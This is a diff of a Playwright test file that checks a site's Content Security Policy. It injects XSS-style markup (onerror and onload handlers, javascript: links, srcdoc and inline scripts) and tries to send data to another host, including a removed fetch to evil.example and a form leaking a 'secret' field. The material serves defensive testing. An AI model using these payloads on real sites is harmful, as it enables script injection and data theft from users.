@@ -20,26 +20,29 @@ with socket.socket() as probe:
     probe.bind(("127.0.0.1", 0))
     FRIENDLY = probe.getsockname()[1]
 FRIENDS = (f"http://127.0.0.1:{FRIENDLY}", "https://example.org")
-CANARY = """async () => {
+CANARY = """async (there) => {
   window.hits = [];
-  window.blocked = [];
-  document.addEventListener("securitypolicyviolation", (found) => window.blocked.push(found.effectiveDirective));
   const place = document.createElement("div");
   document.body.append(place);
   place.innerHTML = `<img src="data:," onerror="hits.push('handler')">
     <a id="lure" href="javascript:hits.push('link')">x</a>
     <svg onload="hits.push('svg')"></svg><iframe srcdoc="<script>parent.hits.push('frame')</script>"></iframe>
-    <object data="data:text/html,x"></object><form id="away" action="https://evil.example"><input></form>`;
+    <object data="data:text/html,x"></object><img src="${there}/picture"><iframe src="${there}/frame"></iframe>
+    <form id="away" action="${there}/form"><input name="secret" value="1"></form>`;
   document.getElementById("lure").click();
-  document.getElementById("away").requestSubmit();
   const script = document.createElement("script");
   script.textContent = "hits.push('script')";
   document.body.append(script);
-  await fetch("https://evil.example/").catch(() => null);
+  const remote = document.createElement("script");
+  remote.src = `${there}/script`;
+  document.body.append(remote);
+  navigator.sendBeacon(`${there}/beacon`, "x");
+  await fetch(`${there}/fetch`, {mode: "no-cors"}).catch(() => null);
   await new Promise((done) => setTimeout(done, 300));
-  place.remove();
-  return {hits: window.hits, blocked: [...new Set(window.blocked)].sort()};
+  return window.hits;
 }"""
+"""Markup and scripts that a page without a policy runs, and that then tell another site so."""
+SUBMIT = "document.getElementById('away').requestSubmit()"
 
 
 @pytest.fixture(scope="module")
@@ -74,6 +77,33 @@ def sites() -> Iterator[list[str]]:
     for server in servers:
         server.shutdown()
         server.server_close()
+
+
+class Elsewhere:
+    """Another site, without a policy, that keeps what it was asked for."""
+
+    def __init__(self) -> None:
+        self.asked: list[str] = []
+        asked = self.asked
+
+        class Handler(Site):
+            def do_GET(self) -> None:
+                asked.append(self.path)
+                super().do_GET()
+
+            do_POST = do_GET  # noqa: N815 - of a beacon
+
+        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self.address = f"http://127.0.0.1:{self.server.server_port}"
+
+
+@pytest.fixture
+def elsewhere() -> Iterator[Elsewhere]:
+    one = Elsewhere()
+    threading.Thread(target=one.server.serve_forever, daemon=True).start()
+    yield one
+    one.server.shutdown()
+    one.server.server_close()
 
 
 @pytest.fixture
@@ -119,13 +149,23 @@ def test_every_perspective_works_under_the_policy(host: Host, watched: Page, com
     assert [said for said in complaints if "Content Security Policy" in said or "Error" in said] == []
 
 
-def test_nothing_that_became_markup_runs_or_leaves(host: Host, watched: Page, complaints: list[str]) -> None:
+def test_nothing_that_became_markup_runs_or_leaves(host: Host, watched: Page, elsewhere: Elsewhere) -> None:
     watched.goto(f"{host.root}/serve?view=model-types")
     is_drawn(watched)
-    told = watched.evaluate(CANARY)
-    assert told["hits"] == []
-    assert {"connect-src", "script-src-attr", "script-src-elem", "form-action"} <= set(told["blocked"])
-    assert complaints  # the browser says so too
+    before = watched.url
+    assert watched.evaluate(CANARY, elsewhere.address) == []
+    watched.evaluate(SUBMIT)
+    watched.wait_for_timeout(500)
+    assert elsewhere.asked == []
+    assert watched.url == before
+
+
+def test_the_same_markup_does_run_and_leave_where_there_is_no_policy(watched: Page, elsewhere: Elsewhere) -> None:
+    watched.goto(f"{elsewhere.address}/page")
+    assert {"handler", "link", "frame", "script"} <= set(watched.evaluate(CANARY, elsewhere.address))
+    watched.evaluate(SUBMIT)
+    watched.wait_for_url(f"{elsewhere.address}/form?secret=1")
+    assert {"/picture", "/frame", "/script", "/beacon", "/fetch", "/form?secret=1"} <= set(elsewhere.asked)
 
 
 def test_an_embed_is_drawn_in_the_frame_of_a_site_that_may(
@@ -144,13 +184,13 @@ def test_an_embed_is_drawn_in_the_frame_of_a_site_that_may(
     assert complaints == []
 
 
-def test_no_other_site_shows_an_embed_and_none_shows_the_page(
-    host: Host, watched: Page, complaints: list[str], sites: list[str]
-) -> None:
+def test_no_other_site_shows_an_embed_and_none_shows_the_page(host: Host, watched: Page, sites: list[str]) -> None:
     embed = f"{host.root}/embed/model-types?dataset=v2"
+    asked: list[str] = []
+    watched.on("request", lambda request: asked.append(request.url))
     for site, path in ((sites[1], embed), (sites[0], f"{host.root}/serve"), (sites[1], f"{host.root}/serve")):
-        complaints.clear()
+        asked.clear()
         watched.goto(f"{site}/?{path}")
         watched.wait_for_timeout(300)
-        assert watched.frames[1].url.startswith("chrome-error://"), site
-        assert any("frame-ancestors" in said for said in complaints)
+        ours = [url for url in asked if url.startswith(host.root)]
+        assert ours == [path], site  # the frame was refused: nothing of the page in it asked for its scripts
